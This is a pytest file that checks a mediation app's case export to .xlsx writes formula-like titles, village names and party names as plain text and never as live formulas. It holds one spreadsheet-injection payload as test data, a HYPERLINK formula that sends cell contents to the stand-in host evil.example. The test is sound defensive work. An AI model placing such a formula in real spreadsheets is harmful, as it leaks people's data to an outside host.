"""The cases' export opens in a spreadsheet as what was typed (issue 14): a title, a village
or a party's name that starts like a formula is text there, never a live formula."""

import re
from io import BytesIO

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.plugin_api import local_today
from tests.conftest import within_station

BASE = "/s/liuxi/mediation"
LINK = '=HYPERLINK("https://evil.example/?d="&A2,"查看详情")'


@pytest.fixture
def admin(make_browser, demo):
    b = make_browser("liuxi-admin")
    assert b.post("/s/liuxi/modules/mediation/enable").status_code == 302
    return b


def test_formula_like_text_is_exported_as_text(app, admin):
    def a_village_named_like_a_formula():
        # The station's admin names its villages: a name may start like a formula too.
        from app.plugin_api import Village

        village = Village(name="@河坝村", position=99)
        db.session.add(village)
        db.session.commit()
        return village.id

    village_id = within_station(app, "liuxi", a_village_named_like_a_formula)
    response = admin.post(f"{BASE}/cases/new", {
        "title": LINK, "kind": "邻里纠纷", "village_id": str(village_id), "source": "walk_in",
        "opened_on": local_today().isoformat(), "a_name": "=1+2", "b_name": "李小河"})
    assert response.status_code == 302, response.get_data(as_text=True)
    case_id = int(re.search(r"/cases/(\d+)$", response.location).group(1))

    export = admin.get(f"{BASE}/export.xlsx")
    assert export.status_code == 200
    sheet = load_workbook(BytesIO(export.data)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case_id)
    number, opened, title, village, parties = row[0], row[1], row[2], row[4], row[6]
    assert (title.value, title.data_type) == (LINK, "s") and title.quotePrefix
    assert (village.value, village.data_type) == ("@河坝村", "s") and village.quotePrefix
    # The party's name is masked as in every export, and still starts like a formula.
    assert parties.value.startswith("=*") and parties.data_type == "s" and parties.quotePrefix
    assert number.data_type == "n" and opened.is_date
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
